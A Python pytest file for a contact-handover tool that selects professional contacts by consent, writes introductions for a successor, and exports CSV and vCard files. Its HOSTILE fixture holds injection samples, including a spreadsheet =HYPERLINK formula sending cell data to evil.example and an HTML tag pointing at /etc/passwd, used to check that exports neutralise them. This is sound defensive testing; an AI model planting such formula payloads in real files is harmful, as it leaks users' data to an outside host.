from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
import vobject

from app.core.handover import (
    CSV_HEADERS,
    HandoverCandidate,
    Successor,
    build_rows,
    choose,
    rows_to_csv,
    rows_to_vcard,
    select_candidates,
    why_not,
)
from app.core.records import Contact, OwnerProfile
from app.core.vocabulary import Channel, ConsentStatus, MetIn, Relationship, Source

C, COL, PRO = Relationship.CLIENT, Relationship.COLLEAGUE, Relationship.PROFESSIONAL
WORK, NET = MetIn.WORK_ROLE, MetIn.PROFESSIONAL_NETWORK
OWNER = OwnerProfile("Morgan Reyes", "Careers adviser", "Northfield University")
SAM = Successor("Sam Lee", "sam.lee@northfield.ac.uk", "https://www.linkedin.com/in/samlee")
HOSTILE = {
    "first_name": "<b>Bold</b>",
    "last_name": '<img src="file:///etc/passwd">',
    "company": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "position": "+1 555 0100",
    "emails": ("@evil.example",),
}


def contact(
    contact_id: int,
    relationship: Relationship,
    met_in: MetIn,
    consent: ConsentStatus | None = None,
    **fields: object,
) -> Contact:
    now = datetime(2026, 1, 1, tzinfo=UTC)
    values: dict[str, object] = {
        "id": contact_id,
        "first_name": f"First{contact_id}",
        "last_name": f"Last{contact_id:03d}",
        "display_name": "",
        "profile_url": f"linkedin.com/in/person-{contact_id}",
        "profile_url_seen": f"https://www.linkedin.com/in/person-{contact_id}/",
        "emails": (f"p{contact_id}@example.org",),
        "company": "Acme Ltd",
        "position": "Recruiter",
        "relationship": relationship,
        "met_in": met_in,
        "met_where": "",
        "met_on": None,
        "connected_on": None,
        "last_interaction": date(2025, 6, 1),
        "tags": (),
        "notes": "private notes never exported",
        "source": Source.MANUAL,
        "created_at": now,
        "updated_at": now,
        "reviewed_at": None,
        "consent": {Channel.LINKEDIN: consent} if consent else {},
    }
    values.update(fields)
    return Contact(**values)  # type: ignore[arg-type]


# (relationship, met in, LinkedIn consent) -> "in" (handed over), "one-by-one" (client to tick), "out" (never)
SELECTION_TABLE = [
    (C, WORK, ConsentStatus.EXPLICIT, "in"),
    (C, NET, ConsentStatus.EXPLICIT, "in"),
    (C, WORK, ConsentStatus.IMPLIED, "one-by-one"),
    (C, WORK, ConsentStatus.NOT_ASKED, "one-by-one"),
    (C, WORK, None, "one-by-one"),
    (C, WORK, ConsentStatus.REFUSED, "out"),
    (C, WORK, ConsentStatus.WITHDRAWN, "out"),
    (C, MetIn.PERSONAL_LIFE, ConsentStatus.EXPLICIT, "out"),
    (COL, WORK, None, "in"),
    (COL, NET, ConsentStatus.IMPLIED, "in"),
    (COL, WORK, ConsentStatus.WITHDRAWN, "out"),
    (COL, MetIn.ONLINE_ONLY, ConsentStatus.EXPLICIT, "out"),
    (PRO, NET, ConsentStatus.NOT_ASKED, "in"),
    (PRO, WORK, ConsentStatus.EXPLICIT, "in"),
    (PRO, NET, ConsentStatus.REFUSED, "out"),
    (PRO, MetIn.UNKNOWN, None, "out"),
    (Relationship.PERSONAL, WORK, ConsentStatus.EXPLICIT, "out"),
    (Relationship.PERSONAL, NET, None, "out"),
    (Relationship.STRANGER, WORK, ConsentStatus.EXPLICIT, "out"),
    (Relationship.UNSORTED, WORK, ConsentStatus.EXPLICIT, "out"),
    (Relationship.UNSORTED, NET, None, "out"),
]


def test_selection_rules_over_a_table_of_contacts():
    contacts = [contact(i, rel, met, consent) for i, (rel, met, consent, _) in enumerate(SELECTION_TABLE)]
    by_id = {c.contact.id: c for c in select_candidates(contacts)}
    for i, (rel, met, consent, expected) in enumerate(SELECTION_TABLE):
        case = f"{rel.value}/{met.value}/{consent}"
        if expected == "out":
            assert i not in by_id, case
            assert why_not(contacts[i]) is not None, case
        else:
            assert i in by_id, case
            assert by_id[i].needs_one_by_one is (expected == "one-by-one"), case
            assert by_id[i].reason, case


def test_only_the_linkedin_channel_decides_consent():
    on_email = contact(1, C, WORK)
    on_email = Contact(
        **{**{f: getattr(on_email, f) for f in Contact.__slots__}, "consent": {Channel.EMAIL: ConsentStatus.EXPLICIT}}
    )
    [candidate] = select_candidates([on_email])
    assert candidate.needs_one_by_one


def test_choose_takes_defaults_plus_ticked_clients_minus_those_left_out():
    contacts = [
        contact(1, C, WORK, ConsentStatus.EXPLICIT),
        contact(2, C, WORK, ConsentStatus.IMPLIED),
        contact(3, C, WORK, None),
        contact(4, COL, WORK),
    ]
    candidates = select_candidates(contacts)
    assert [c.contact.id for c in choose(candidates)] == [1, 4]
    assert [c.contact.id for c in choose(candidates, include_clients=[3])] == [1, 3, 4]
    assert [c.contact.id for c in choose(candidates, include_clients=[3], leave_out=[1])] == [3, 4]


def test_candidates_are_sorted_by_name_and_carry_a_reason():
    contacts = [contact(2, COL, NET, last_name="Zeller"), contact(1, C, WORK, ConsentStatus.EXPLICIT, last_name="Abt")]
    candidates = select_candidates(contacts)
    assert [c.contact.last_name for c in candidates] == ["Abt", "Zeller"]
    assert candidates[0].reason == "Client met in my work role, with explicit consent."
    assert candidates[1].reason == "Colleague met through professional networks."


def test_each_row_has_the_fields_and_an_introduction_from_the_template():
    ticked = contact(3, C, WORK, ConsentStatus.NOT_ASKED)
    candidates = [HandoverCandidate(ticked, "", True), *select_candidates([contact(1, COL, WORK)])]
    rows = build_rows(candidates, SAM, OWNER)
    assert [r.contact_id for r in rows] == [3, 1]
    row = rows[0]
    assert row.name == "First3 Last003"
    assert row.profile_url == "https://www.linkedin.com/in/person-3/"
    assert row.email == "p3@example.org"
    assert (row.company, row.position, row.relationship, row.met_in) == ("Acme Ltd", "Recruiter", C, WORK)
    assert row.last_interaction == date(2025, 6, 1)
    assert row.reason == "Client met in my work role, included one by one."
    assert row.introduction.startswith("Hi First3, Sam Lee is taking over my work at Northfield University.")
    assert "sam.lee@northfield.ac.uk" in row.introduction and row.introduction.endswith("best wishes, Morgan.")
    assert "our work together" in rows[1].introduction  # the colleague's introduction differs


def test_introductions_read_finished_whatever_is_missing():
    bare = build_rows(select_candidates([contact(1, PRO, NET, first_name="")]), Successor("Sam"), OwnerProfile())
    assert bare[0].introduction == (
        "Hello, Sam is taking over my work. I'd like to introduce you, so that you keep a contact after I leave. "
        "Thank you for everything, and best wishes."
    )


def test_the_csv_has_the_columns_and_neutralises_formulas():
    rows = build_rows(select_candidates([contact(1, COL, WORK, **HOSTILE), contact(2, COL, WORK)]), SAM, OWNER)
    parsed = list(csv.reader(io.StringIO(rows_to_csv(rows))))
    assert tuple(parsed[0]) == CSV_HEADERS
    hostile = next(r for r in parsed[1:] if "Bold" in r[0])
    cells = dict(zip(CSV_HEADERS, hostile, strict=True))
    assert cells["Company"] == "'" + HOSTILE["company"]
    assert cells["Position"] == "'+1 555 0100"
    assert cells["E-mail"] == "'@evil.example"
    assert cells["Name"] == '<b>Bold</b> <img src="file:///etc/passwd">'  # kept, as plain text
    for row in parsed[1:]:
        assert all(not cell or cell[0] not in "=+-@" for cell in row), row
    assert "private notes" not in rows_to_csv(rows)


def test_the_vcard_file_parses_and_round_trips():
    contacts = [contact(1, COL, WORK, **HOSTILE), contact(2, C, NET, ConsentStatus.EXPLICIT, company="Acme; Inc., Ltd")]
    rows = build_rows(select_candidates(contacts), SAM, OWNER)
    text = rows_to_vcard(rows)
    cards = list(vobject.readComponents(text))
    assert len(cards) == len(rows) == 2
    for card, row in zip(cards, rows, strict=True):
        assert card.version.value == "4.0"
        assert text.splitlines()[1] == "VERSION:4.0"  # RFC 6350: straight after BEGIN
        assert card.fn.value == row.name
        assert (card.n.value.family, card.n.value.given) == (row.last_name, row.first_name)
        assert card.email.value == row.email
        assert card.org.value == [row.company]
        assert card.title.value == row.position
        assert card.url.value == row.profile_url
        assert card.note.value == row.introduction
        assert card.categories.value == [row.relationship.value]
    by_name = {card.n.value.given: card for card in cards}
    assert by_name["<b>Bold</b>"].fn.value == '<b>Bold</b> <img src="file:///etc/passwd">'
    assert by_name["<b>Bold</b>"].org.value == [HOSTILE["company"]]
    assert by_name["First2"].org.value == ["Acme; Inc., Ltd"]


@pytest.mark.parametrize("missing", ["emails", "company", "position", "profile_url"])
def test_vcard_leaves_out_empty_fields(missing):
    empty: dict[str, object] = {missing: () if missing == "emails" else ""}
    if missing == "profile_url":
        empty["profile_url_seen"] = None
        empty["profile_url"] = None
    rows = build_rows(select_candidates([contact(1, COL, WORK, **empty)]), SAM, OWNER)
    card = vobject.readOne(rows_to_vcard(rows))
    prop = {"emails": "email", "company": "org", "position": "title", "profile_url": "url"}[missing]
    assert prop not in card.contents
